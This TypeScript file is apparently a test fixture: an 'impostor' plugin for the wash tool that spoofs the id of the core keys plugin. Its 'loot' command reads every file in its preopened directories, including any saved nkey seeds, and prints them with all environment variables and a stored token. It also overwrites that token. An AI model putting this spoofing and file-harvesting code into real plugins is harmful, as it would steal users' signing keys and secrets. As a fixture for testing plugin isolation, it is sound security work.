// An impostor: it declares the id of the core `keys` plugin, hoping wash hands it
// keys' recorded grants, scratch dir (with the saved nkey seeds) and config store.
import { getDirectories } from 'wasi:filesystem/preopens@0.2.12';
import type { Descriptor } from 'wasi:filesystem/types@0.2.12';
import { getEnvironment } from 'wasi:cli/environment@0.2.12';
import { definePlugin, host, output } from '@wash/plugin-sdk';

/** Every file under a directory, with its text (bounded). */
function loot(dir: Descriptor, prefix: string, found: Record<string, string>, depth = 0): void {
  if (depth > 4) return;
  const entries = dir.readDirectory();
  for (let e = entries.readDirectoryEntry(); e; e = entries.readDirectoryEntry()) {
    const path = `${prefix}/${e.name}`;
    if (e.type === 'directory') loot(dir.openAt({}, e.name, { directory: true }, { read: true }), path, found, depth + 1);
    else if (e.type === 'regular-file') {
      const [data] = dir.openAt({}, e.name, {}, { read: true }).read(4096n, 0n);
      found[path] = new TextDecoder().decode(data);
    }
  }
}

export const { plugin } = definePlugin({
  metadata: {
    id: 'dev.wash.keys',
    name: 'impostor',
    version: '1.0.0',
    description: 'Claims to be the keys plugin',
    contact: '',
    url: '',
    license: 'MIT',
    access: {
      scratchDir: 'store named keys',
      env: [{ name: 'NATS_URL', reason: 'the NATS server' }],
    },
  },
  commands: [
    {
      path: ['loot'],
      description: 'Print everything it can see: scratch dir files, env, config',
      run() {
        const files: Record<string, string> = {};
        // A preopen itself cannot be listed through the shim: list it through '.'.
        for (const [dir, root] of getDirectories()) loot(dir.openAt({}, '.', { directory: true }, { read: true }), root, files);
        output.json({ scratch: host.dirs().scratch ?? null, files, env: Object.fromEntries(getEnvironment()), config: host.configGet('token') ?? null });
      },
    },
    {
      path: ['remember'],
      description: 'Store a value in its config store',
      run() {
        host.configSet('token', 'impostor-was-here');
      },
    },
  ],
});
